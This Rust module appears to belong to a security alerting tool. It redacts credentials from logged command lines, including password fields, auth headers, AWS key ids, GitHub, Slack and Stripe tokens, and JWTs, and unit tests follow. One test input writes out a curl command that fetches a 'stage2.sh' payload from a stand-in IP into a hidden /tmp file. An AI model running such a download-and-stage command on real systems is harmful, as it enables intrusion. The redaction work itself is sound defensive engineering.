//! Hiding secrets that attackers (and careless users) put on command lines and in user
//! data before they are copied into alerts. An alert is forwarded to chat, tickets and
//! SIEMs; a `curl -u admin:hunter2` or an `AKIA…` key in its evidence would spread the
//! credential further than the attack did. What gives the command away (the binary,
//! the host, the URL path) stays; only the secret value is replaced.
//!
//! Recognized: values of secret-looking keys (`password=`, `token:`, `--api-key=…`,
//! `X-Amz-Signature=` and the like, quoted or not), the argument after a secret flag
//! (`--password hunter2`, `curl -u user:pass`), passwords in URLs
//! (`https://user:pass@host`), `Authorization: Bearer …` and `Basic …` values, AWS access
//! key ids (`AKIA…`, `ASIA…`), well-known token shapes (GitHub, GitLab, Slack, Stripe,
//! Google API keys) and JSON Web Tokens.

use std::borrow::Cow;

/// What a secret is replaced with.
pub const REDACTED: &str = "[REDACTED]";

/// Returns `s` with every recognized secret value replaced by [`REDACTED`]; borrowed
/// (no copy) when there is nothing to hide.
pub fn redact_secrets(s: &str) -> Cow<'_, str> {
    let mut spans: Vec<(usize, usize)> = Vec::new();
    key_values(s, &mut spans);
    flag_values(s, &mut spans);
    url_passwords(s, &mut spans);
    token_shapes(s, &mut spans);
    if spans.is_empty() {
        return Cow::Borrowed(s);
    }
    spans.sort_unstable();
    let mut out = String::with_capacity(s.len());
    let mut at = 0;
    for (start, end) in spans {
        let start = start.max(at);
        if start >= end {
            continue;
        }
        out.push_str(s.get(at..start).unwrap_or(""));
        out.push_str(REDACTED);
        at = end;
    }
    out.push_str(s.get(at..).unwrap_or(""));
    Cow::Owned(out)
}

/// Key words that make a key's value secret. Matched against the key lowercased with
/// `-` and `.` read as `_`.
const SECRET_KEY_PARTS: &[&str] = &[
    "password",
    "passwd",
    "secret",
    "token",
    "apikey",
    "api_key",
    "access_key",
    "accesskey",
    "private_key",
    "credential",
    "signature",
    "authorization",
];

/// Keys that are secret only when they are the whole key (or its last `_` part):
/// `pass` and `pwd` inside longer words (`bypass`, `oldpwd`) are not.
const SECRET_KEY_WORDS: &[&str] = &["pass", "pwd", "auth", "pw"];

fn is_secret_key(key: &str) -> bool {
    let k: String = key
        .trim_start_matches('-')
        .chars()
        .map(|c| match c {
            '-' | '.' => '_',
            c => c.to_ascii_lowercase(),
        })
        .collect();
    if k.is_empty() {
        return false;
    }
    if SECRET_KEY_PARTS.iter().any(|p| k.contains(p)) {
        return true;
    }
    let last = k.rsplit('_').next().unwrap_or(&k);
    SECRET_KEY_WORDS.contains(&last)
}

fn is_key_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')
}

/// Where an unquoted value ends.
fn is_value_end(b: u8) -> bool {
    b.is_ascii_whitespace() || matches!(b, b'&' | b';' | b',' | b'"' | b'\'' | b')' | b'}')
}

/// The value starting at `i`: quoted up to its closing quote, else up to a delimiter.
fn value_span(b: &[u8], i: usize) -> Option<(usize, usize)> {
    let first = *b.get(i)?;
    if first == b'"' || first == b'\'' {
        let start = i + 1;
        let len = b.get(start..)?.iter().position(|&c| c == first);
        let end = len.map_or(b.len(), |n| start + n);
        return (end > start).then_some((start, end));
    }
    let len = b
        .get(i..)?
        .iter()
        .position(|&c| is_value_end(c))
        .unwrap_or(b.len() - i);
    (len > 0).then_some((i, i + len))
}

fn skip_spaces(b: &[u8], mut i: usize) -> usize {
    while b.get(i).is_some_and(|c| *c == b' ' || *c == b'\t') {
        i += 1;
    }
    i
}

/// `key=value`, `key: value`, `"key": "value"`.
fn key_values(s: &str, spans: &mut Vec<(usize, usize)>) {
    let b = s.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        if c != b'=' && c != b':' {
            continue;
        }
        // The key, possibly quoted (`"password": …`).
        let mut key_end = i;
        if key_end > 0 && matches!(b.get(key_end - 1), Some(b'"' | b'\'')) {
            key_end -= 1;
        }
        let key_start = b
            .get(..key_end)
            .and_then(|h| h.iter().rposition(|&k| !is_key_byte(k)))
            .map_or(0, |p| p + 1);
        let Some(key) = s.get(key_start..key_end) else {
            continue;
        };
        if !is_secret_key(key) {
            continue;
        }
        // `://` after a key is a URL scheme, handled by `url_passwords`.
        if c == b':' && b.get(i + 1) == Some(&b'/') {
            continue;
        }
        let mut v = if c == b':' {
            skip_spaces(b, i + 1)
        } else {
            i + 1
        };
        let Some((mut start, mut end)) = value_span(b, v) else {
            continue;
        };
        // `Authorization: Bearer xyz`: the scheme stays, the credential goes.
        let word = s.get(start..end).unwrap_or("").to_ascii_lowercase();
        if matches!(
            word.as_str(),
            "bearer" | "basic" | "token" | "digest" | "negotiate"
        ) {
            v = skip_spaces(b, end);
            match value_span(b, v) {
                Some(sp) => (start, end) = sp,
                None => continue,
            }
        }
        spans.push((start, end));
    }
}

/// `--password hunter2`, `--token abc`, and `-u user:pass` / `--user user:pass` (curl,
/// wget), where the argument after the flag is the secret.
fn flag_values(s: &str, spans: &mut Vec<(usize, usize)>) {
    let b = s.as_bytes();
    let mut words: Vec<(usize, usize)> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b.get(i).is_some_and(u8::is_ascii_whitespace) {
            i += 1;
            continue;
        }
        let start = i;
        while b.get(i).is_some_and(|c| !c.is_ascii_whitespace()) {
            i += 1;
        }
        words.push((start, i));
    }
    for pair in words.windows(2) {
        let [(fs, fe), (vs, ve)] = pair else { continue };
        let flag = s.get(*fs..*fe).unwrap_or("");
        if !flag.starts_with('-') || flag.contains('=') {
            continue;
        }
        let (vs, ve) = strip_quotes(b, *vs, *ve);
        if matches!(flag, "-u" | "--user" | "--proxy-user" | "-U") {
            // `user:password`: the user name stays.
            if let Some(colon) = b
                .get(vs..ve)
                .and_then(|v| v.iter().position(|&c| c == b':'))
            {
                if vs + colon + 1 < ve {
                    spans.push((vs + colon + 1, ve));
                }
            }
        } else if is_secret_key(flag) && vs < ve {
            spans.push((vs, ve));
        }
    }
}

fn strip_quotes(b: &[u8], mut s: usize, mut e: usize) -> (usize, usize) {
    if e > s + 1 {
        let (f, l) = (b.get(s), b.get(e - 1));
        if matches!(f, Some(b'"' | b'\'')) && f == l {
            s += 1;
            e -= 1;
        }
    }
    (s, e)
}

/// `scheme://user:password@host`: the password goes, the user and host stay.
fn url_passwords(s: &str, spans: &mut Vec<(usize, usize)>) {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|rest| rest.find("://")) {
        let auth_start = from + p + 3;
        from = auth_start;
        let auth_len = b
            .get(auth_start..)
            .and_then(|a| {
                a.iter().position(|&c| {
                    c.is_ascii_whitespace() || matches!(c, b'/' | b'?' | b'#' | b'"' | b'\'' | b'>')
                })
            })
            .unwrap_or(b.len() - auth_start);
        let Some(auth) = b.get(auth_start..auth_start + auth_len) else {
            continue;
        };
        let Some(at) = auth.iter().rposition(|&c| c == b'@') else {
            continue;
        };
        if let Some(colon) = auth
            .get(..at)
            .and_then(|u| u.iter().position(|&c| c == b':'))
        {
            if colon + 1 < at {
                spans.push((auth_start + colon + 1, auth_start + at));
            }
        }
    }
}

/// Prefixes of credentials that are recognizable on their own, with the shortest
/// plausible length of what follows.
const TOKEN_PREFIXES: &[(&str, usize)] = &[
    ("ghp_", 20),
    ("gho_", 20),
    ("ghu_", 20),
    ("ghs_", 20),
    ("ghr_", 20),
    ("github_pat_", 20),
    ("glpat-", 16),
    ("xoxb-", 10),
    ("xoxp-", 10),
    ("xoxa-", 10),
    ("xoxs-", 10),
    ("sk_live_", 16),
    ("rk_live_", 16),
    ("AIza", 30),
];

/// Prefixes of AWS access key ids; 16 upper-case letters and digits follow.
const AWS_KEY_PREFIXES: &[&str] = &[
    "AKIA", "ASIA", "AGPA", "AIDA", "AROA", "ANPA", "ABIA", "ACCA",
];

fn is_token_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
}

fn token_shapes(s: &str, spans: &mut Vec<(usize, usize)>) {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let at_boundary = i == 0 || b.get(i - 1).is_some_and(|&c| !is_token_byte(c));
        if !at_boundary {
            i += 1;
            continue;
        }
        let rest = b.get(i..).unwrap_or(&[]);
        let run = rest
            .iter()
            .position(|&c| !is_token_byte(c))
            .unwrap_or(rest.len());
        if let Some(p) = AWS_KEY_PREFIXES
            .iter()
            .find(|p| rest.starts_with(p.as_bytes()))
        {
            let body = rest.get(p.len()..run).unwrap_or(&[]);
            if body.len() == 16
                && body
                    .iter()
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
            {
                spans.push((i + p.len(), i + run));
            }
        } else if let Some((p, min)) = TOKEN_PREFIXES
            .iter()
            .find(|(p, _)| rest.starts_with(p.as_bytes()))
        {
            if run >= p.len() + min {
                spans.push((i + p.len(), i + run));
            }
        } else if rest.starts_with(b"eyJ") {
            // A JWT: three base64url parts joined by dots.
            let len = rest
                .iter()
                .position(|&c| !(is_token_byte(c) || c == b'.'))
                .unwrap_or(rest.len());
            let jwt = rest.get(..len).unwrap_or(&[]);
            if jwt.iter().filter(|&&c| c == b'.').count() == 2 && len >= 20 {
                spans.push((i, i + len));
            }
        }
        i += run.max(1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn r(s: &str) -> String {
        redact_secrets(s).into_owned()
    }

    #[test]
    fn nothing_to_hide_is_not_copied() {
        let s = "curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s";
        assert!(matches!(redact_secrets(s), Cow::Borrowed(_)));
        assert_eq!(
            r("cd /tmp; ./bypass --passthrough"),
            "cd /tmp; ./bypass --passthrough"
        );
        assert_eq!(r(""), "");
    }

    #[test]
    fn aws_access_key_ids_keep_their_kind() {
        assert_eq!(
            r("aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE"),
            "aws configure set aws_access_key_id AKIA[REDACTED]"
        );
        assert_eq!(
            r("echo ASIAY34FZKBOKMUTVV7A >> creds"),
            "echo ASIA[REDACTED] >> creds"
        );
        // Under a secret-looking key the whole value goes.
        assert_eq!(
            r("AWS_ACCESS_KEY_ID=ASIAY34FZKBOKMUTVV7A aws s3 ls"),
            "AWS_ACCESS_KEY_ID=[REDACTED] aws s3 ls"
        );
        // Not 16 characters after the prefix, or lower case: not a key id.
        assert_eq!(
            r("AKIA1234 AKIAiosfodnn7example"),
            "AKIA1234 AKIAiosfodnn7example"
        );
        // Part of a longer word: not a key id either.
        assert_eq!(r("XAKIAIOSFODNN7EXAMPLE"), "XAKIAIOSFODNN7EXAMPLE");
    }

    #[test]
    fn secret_keys_lose_their_values() {
        assert_eq!(
            r("mysql --user=root --password=hunter2 db"),
            "mysql --user=root --password=[REDACTED] db"
        );
        assert_eq!(
            r("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls"),
            "AWS_SECRET_ACCESS_KEY=[REDACTED] aws s3 ls"
        );
        assert_eq!(
            r("wget 'https://x.example/dl?user=bob&token=abc123&v=2'"),
            "wget 'https://x.example/dl?user=bob&token=[REDACTED]&v=2'"
        );
        assert_eq!(
            r(r#"echo {"password": "s3 cr3t", "user": "bob"}"#),
            r#"echo {"password": "[REDACTED]", "user": "bob"}"#
        );
        assert_eq!(r("db_pass=x pwd=y"), "db_pass=[REDACTED] pwd=[REDACTED]");
        assert_eq!(
            r("curl 'https://b.s3.amazonaws.com/k?X-Amz-Credential=AK%2F1&X-Amz-Signature=9f0e'"),
            "curl 'https://b.s3.amazonaws.com/k?X-Amz-Credential=[REDACTED]&X-Amz-Signature=[REDACTED]'"
        );
    }

    #[test]
    fn authorization_headers_keep_their_scheme() {
        assert_eq!(
            r(r#"curl -H "Authorization: Bearer abc.def" https://api.example"#),
            r#"curl -H "Authorization: Bearer [REDACTED]" https://api.example"#
        );
        assert_eq!(
            r("curl -H 'authorization: Basic dXNlcjpwYXNz' x"),
            "curl -H 'authorization: Basic [REDACTED]' x"
        );
    }

    #[test]
    fn secret_flags_lose_their_argument() {
        assert_eq!(
            r("mysqladmin --password hunter2 status"),
            "mysqladmin --password [REDACTED] status"
        );
        assert_eq!(
            r("curl -u admin:hunter2 http://10.0.0.5/"),
            "curl -u admin:[REDACTED] http://10.0.0.5/"
        );
        assert_eq!(
            r("vault login --token 's.abc'"),
            "vault login --token '[REDACTED]'"
        );
        // A user name alone is not a secret.
        assert_eq!(r("curl -u admin http://x/"), "curl -u admin http://x/");
    }

    #[test]
    fn url_passwords_keep_user_and_host() {
        assert_eq!(
            r("git clone https://deploy:tok3n@git.example.com/org/repo.git"),
            "git clone https://deploy:[REDACTED]@git.example.com/org/repo.git"
        );
        assert_eq!(
            r("psql postgres://app:p@ss:w0rd@db:5432/x"),
            "psql postgres://app:[REDACTED]@db:5432/x"
        );
        assert_eq!(
            r("curl http://198.51.100.23:8080/x"),
            "curl http://198.51.100.23:8080/x"
        );
    }

    #[test]
    fn recognizable_tokens() {
        assert_eq!(
            r("GH=ghp_0123456789abcdefghijABCDEFGHIJ0123 make"),
            "GH=ghp_[REDACTED] make"
        );
        assert_eq!(
            r("curl -d t=xoxb-1234567890-abcdefghij"),
            "curl -d t=xoxb-[REDACTED]"
        );
        let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlX2hlcmU";
        assert_eq!(
            r(&format!("kubectl --server x {jwt}")),
            "kubectl --server x [REDACTED]"
        );
    }

    #[test]
    fn redaction_is_idempotent_and_safe_on_any_text() {
        for s in [
            "password=hunter2 AKIAIOSFODNN7EXAMPLE https://a:b@c/",
            "password=",
            "password=\"unterminated",
            "=:=:",
            "://@",
            "ü password=ö€ AKIA",
            "--password",
        ] {
            let once = r(s);
            assert_eq!(r(&once), once, "{s}");
            assert!(!once.contains("hunter2"));
        }
        assert_eq!(r("password=\"unterminated"), "password=\"[REDACTED]");
        assert_eq!(r("pw=ö€x y"), "pw=[REDACTED] y");
    }
}
